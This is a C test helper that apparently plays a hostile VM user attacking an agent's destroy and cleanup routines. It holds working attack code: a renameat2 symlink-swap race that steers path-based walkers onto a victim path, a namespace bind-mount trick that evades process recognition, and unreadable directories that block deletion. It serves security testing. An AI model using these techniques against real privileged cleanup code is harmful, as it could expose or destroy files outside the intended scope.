/*
 * TEST ONLY: what a VM's host user (a member who escaped their guest) runs against the agent
 * during vm.destroy and the create-failure cleanup (destroy.itest.ts, security checks 25 and 41).
 * Compiled by the test with gcc; run as the VM's uid through setpriv with an argument array.
 * Every path is relative to the directory it enters, so it keeps working after the directory's
 * ancestors are closed to it. Errors are ignored: it retries until killed. The directory comes in
 * the environment (ATTACK_DIR=<dir>), not the command line, as a real attacker's would not name it
 * there (the agent recognises a VM's own processes by their command line).
 *
 *   member-attacker swap <victim> <pairs> [<plant>]
 *       waits until it can enter <dir>, creates <plant> there as a directory when given (so a
 *       vm.create fails and its cleanup runs), then forever: per pair i a directory a<i> (with a
 *       file inside) and a symlink s<i> -> <victim>, swapped with renameat2(RENAME_EXCHANGE), so a
 *       path-based walker that lstat'ed a<i> as a directory then reads the victim through it.
 *   member-attacker nsfill <mountpoint>
 *       as fill, but first enters a user and mount namespace of its own and bind-mounts <dir>
 *       on <mountpoint> there, then works through the bind: its working directory and
 *       descriptors name <mountpoint>, never <dir>.
 *   member-attacker fill
 *       waits until it can enter <dir>, makes a directory with contents unreadable (mode 000),
 *       then forever creates directories with files in them.
 *
 * Prints "ready\n" on stdout once it is in <dir>.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void enter(const char *dir) {
  while (chdir(dir) != 0) usleep(200);
  fputs("ready\n", stdout);
  fflush(stdout);
}

static void touch(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_NOFOLLOW, 0600);
  if (fd >= 0) close(fd);
}

int main(int argc, char **argv) {
  char a[64], s[64], f[96];
  const char *dir = getenv("ATTACK_DIR");
  if (!dir) {
    fputs("ATTACK_DIR is not set\n", stderr);
    return 2;
  }
  if (argc >= 4 && strcmp(argv[1], "swap") == 0) {
    const char *victim = argv[2];
    int pairs = atoi(argv[3]);
    enter(dir);
    if (argc >= 5) mkdir(argv[4], 0700);
    for (;;) {
      for (int i = 0; i < pairs; i++) {
        snprintf(a, sizeof a, "a%d", i);
        snprintf(s, sizeof s, "s%d", i);
        snprintf(f, sizeof f, "a%d/f", i);
        mkdir(a, 0700);
        touch(f);
        symlink(victim, s);
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, s, RENAME_EXCHANGE);
      }
    }
  }
  int ns = argc >= 3 && strcmp(argv[1], "nsfill") == 0;
  if (ns) {
    char map[64];
    unsigned uid = getuid(), gid = getgid();
    while (access(dir, X_OK) != 0) usleep(200);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) { perror("unshare"); return 1; }
    int fd = open("/proc/self/setgroups", O_WRONLY);
    if (fd >= 0) { write(fd, "deny", 4); close(fd); }
    snprintf(map, sizeof map, "0 %u 1", uid);
    fd = open("/proc/self/uid_map", O_WRONLY); write(fd, map, strlen(map)); close(fd);
    snprintf(map, sizeof map, "0 %u 1", gid);
    fd = open("/proc/self/gid_map", O_WRONLY); write(fd, map, strlen(map)); close(fd);
    if (mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0) { perror("mount private"); return 1; }
    if (mount(dir, argv[2], NULL, MS_BIND, NULL) != 0) { perror("mount bind"); return 1; }
    dir = argv[2];
  }
  if (ns || (argc >= 2 && strcmp(argv[1], "fill") == 0)) {
    enter(dir);
    /* A directory with contents that the owner made unreadable, so a plain find -delete cannot empty it. */
    mkdir("locked", 0700);
    mkdir("locked/inner", 0700);
    touch("locked/inner/f");
    chmod("locked/inner", 0);
    chmod("locked", 0);
    for (unsigned long n = 0;; n++) {
      snprintf(a, sizeof a, "d%lu", n % 64);
      mkdir(a, 0700);
      snprintf(f, sizeof f, "d%lu/f%lu", n % 64, n);
      touch(f);
      snprintf(f, sizeof f, "f%lu", n % 4096);
      touch(f);
    }
  }
  fputs("usage: ATTACK_DIR=<dir> member-attacker swap <victim> <pairs> [<plant>] | fill | nsfill <mountpoint>\n", stderr);
  return 2;
}
